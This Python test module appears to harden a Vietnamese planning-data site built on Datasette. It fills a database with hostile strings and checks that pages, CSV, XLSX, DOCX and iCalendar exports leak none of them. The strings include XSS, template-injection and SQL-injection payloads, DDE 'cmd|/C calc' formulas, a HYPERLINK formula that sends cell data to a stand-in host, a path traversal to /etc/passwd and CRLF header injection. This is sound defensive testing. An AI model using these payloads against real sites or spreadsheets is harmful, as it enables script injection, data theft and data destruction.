"""A database whose every text is hostile, what is asked of it, and what an answer must not hold."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlsplit

import datasette
import icalendar
import openpyxl  # type: ignore[import-untyped]
from web_fixture import Rows

from db import schema
from web import page
from web.inline import fit

STRINGS = (
    '<script>alert("zq1")</script><img src=x onerror=alert(1)>',
    "\"' onmouseover=alert(1) autofocus onfocus=alert(2) x='",
    "javascript:alert(1)//</title></textarea></script><svg onload=alert(1)>",
    '=HYPERLINK("http://zq.invalid/?"&A1,"Sở Y tế")',
    " +84|cmd' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e=1+1\u2066 đảo ngược",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}",
    "../../../../etc/passwd\0.docx",
    "a\r\nSet-Cookie: zq=1\r\n\r\n<b>zq</b>\r\nATTACH:file:///etc/passwd",
    "</script><!--<script>]]>&lt;script&gt;\u2028\u2029\\u003cscript\\u003e",
    "dài" * 3000,
    "' or 1=1; drop table plans; -- \ufffe\ud7ff %00%0a%s {0}",
)
_KEPT = re.compile(
    r"id|\w+_id|same_as|kind|role|unit|comparator|measure|direction|status|relation|doc_type|level|recurrence|topics|boxes|starts_on|ends_on|"
    r"agency_(start|end)|issued|indicator|format|sha256|loaded_at|reporting|standard|\w+_basis|valid_(from|to)|severity|raw|rule|text|file|folder"
)  # codes, days and ids, which no document writes
_TABLES = ("sections", "legal_references", "targets", "deadlines", "responsibilities", "problems", "files")
PATHS = (
    "/",
    "/trach-nhiem",
    "/chi-tieu",
    "/lich",
    "/doi-chieu",
    "/can-cu",
    "/tim",
    "/tep",
    "/ke-hoach/{plan}",
    "/ke-hoach/{plan}/bang-chung",
)
FORMATS = ("", ".json", ".csv", ".xlsx", ".docx", ".ics")
ASKED = {"/chi-tieu": "indicator=poverty_rate", "/doi-chieu": "a=x0&b=x1", "/tim": "q=ngh%C3%A8o", "/lich": "year=2022"}
TABLES = ("targets", "responsibilities", "plans", "problems", "files", "due")
_RUNS = re.compile(r"[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+@＝＋＠－-]")


def build(path: Path) -> Path:
    """A database with a plan for each of the strings, every text of it that string but for codes, days and ids."""
    connection = sqlite3.connect(path, isolation_level=None)
    schema.create(connection)
    made = Rows(connection)
    made.shared()
    for number, text in enumerate(STRINGS):
        made.plan(f"x{number}", text, 2022, agency=text, extra=text)
        _fill(connection, f"x{number}", text)
    for table, column in (("agencies", "name"), ("instruments", "issuer"), ("instruments", "title")):
        connection.execute(f"update {table} set {column} = ?", [STRINGS[0]])
    connection.close()
    return path


def _fill(connection: sqlite3.Connection, plan: str, text: str) -> None:
    for table in _TABLES:
        names = [
            row[1] for row in connection.execute(f"pragma table_info({table})") if row[2].upper() == "TEXT" and not _KEPT.fullmatch(row[1])
        ]
        sets = ", ".join(f'"{name}" = ?' for name in names)
        connection.execute(f"update {table} set {sets} where plan_id = ?", [*[text] * sets.count("?"), plan])
    connection.execute("update plans set number = ?, issuer = ?, signer = ?, title = ?, district = ? where id = ?", [*[text] * 5, plan])


def parameters() -> list[str]:
    """Every parameter that a page reads, found in the code and the templates, and one that none reads."""
    sources = [*Path(page.__file__).parent.glob("*.py"), *Path(page.__file__).parent.glob("templates/*.html")]
    named = {name for file in sources for name in re.findall(r"""\barg\(["']([\w-]+)["']""", file.read_text(encoding="utf-8"))}
    return [*sorted(named | set(page._FILTERS) | {"a", "b", "lang"}), "<x onload=alert(1)>"]


def addresses(texts: tuple[str, ...], each: bool) -> Iterator[tuple[str, str]]:
    """Address and format of every page in every format and both languages: as it is, and with attacks in its parameters: in all of them
    together, or in `each` of them alone too."""
    names = parameters()
    for path in PATHS:
        for form in FORMATS:
            stem = path.format(plan="x0") + form if path != "/" or form in ("", ".json") else None
            if stem is None:
                continue
            for lang in ("vi", "en"):
                first = ASKED.get(path, "")
                yield f"{stem}?{first}&lang={lang}", form
                for text in texts:
                    value = quote(text[:250], safe="")
                    yield (
                        f"{stem}?" + "&".join(f"{quote(name, safe='')}={value}" for name in names if name != "lang") + f"&lang={lang}",
                        form,
                    )
                    if each:
                        yield from ((f"{stem}?{first}&lang={lang}&{quote(name, safe='')}={value}", form) for name in names)


class Markup(HTMLParser):
    """Collects what stands in a page; `held`: elements with their attributes' names."""

    def __init__(self) -> None:
        super().__init__()
        self.held: set[tuple[str, str]] = set()
        self.leads: list[str] = []
        self.islands: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.held |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        self.leads += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "xlink:href")]
        self._script = tag == "script" and dict(attrs).get("type") == "application/json"

    def handle_data(self, data: str) -> None:
        if self._script:
            self.islands.append(data)
            self._script = False


def allowed() -> set[tuple[str, str]]:
    """The elements and attributes that the templates hold."""
    found = Markup()
    folders = (Path(page.__file__).parent / "templates", Path(datasette.__file__).parent / "templates")
    for file in (file for folder in folders for file in folder.glob("*.html")):
        own = folder_text(file)
        found.feed(re.sub(r"\{#.*?#\}|\{%.*?%\}|\{\{.*?\}\}", " ", own, flags=re.DOTALL))
        found.close()
        found.reset()
    return found.held | {("a", "href"), ("script", "nonce"), ("style", "nonce")}


def folder_text(file: Path) -> str:
    """A template as it is used: Datasette's without what the policy forbids."""
    text = file.read_text(encoding="utf-8")
    return text if file.name.startswith("kehoach") else fit(text)


def faults_of_page(text: str, known: set[tuple[str, str]]) -> list[str]:
    """What a page holds that no template does, and where it leads out of the site."""
    found = Markup()
    found.feed(text)
    wrong = [f"{tag} {name}" for tag, name in found.held - known]
    wrong += [
        lead for lead in found.leads if not re.match(r"[/#?](?!/)|https?://(localhost|127\.0\.0\.1)[:/]|$", lead) and not _datasette(lead)
    ]
    for island in found.islands:
        json.loads(island)
    return wrong


def _datasette(lead: str) -> bool:
    """The links of Datasette to itself and of metadata.yml to the licence, and data: icons of ours."""
    return urlsplit(lead).hostname in ("datasette.io", "github.com", "www.apache.org")


def faults_of_file(body: bytes, form: str) -> list[str]:
    """Cells that would run in a spreadsheet, links and fields that lead out, and lines of a calendar that no event has."""
    if form == ".csv":
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
        return [cell[:60] for row in rows for cell in row if _RUNS.match(cell) and not re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]\d+)?", cell)]
    if form == ".xlsx":
        cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(body)) for row in sheet.iter_rows() for cell in row]
        return [str(cell.value)[:60] for cell in cells if cell.data_type == "f" or cell.hyperlink]
    if form == ".docx":
        with zipfile.ZipFile(io.BytesIO(body)) as made:
            text = made.read("word/document.xml").decode()
            links = re.findall(r'Target="([^"]*)" TargetMode="External"', made.read("word/_rels/document.xml.rels").decode())
        fields = [code for code in re.findall(r"<w:instrText[^>]*>([^<]*)<", text) if code.strip() not in ("PAGE", "NUMPAGES")]
        return fields + [link for link in links if not link.startswith(("http://localhost/", "http://127.0.0.1"))]
    events = icalendar.Calendar.from_ical(body).walk("VEVENT")
    fit_ = {"UID", "DTSTAMP", "DTSTART", "DTEND", "TRANSP", "SUMMARY", "DESCRIPTION", "URL", "CATEGORIES"}
    return [name for event in events for name in event if name not in fit_]
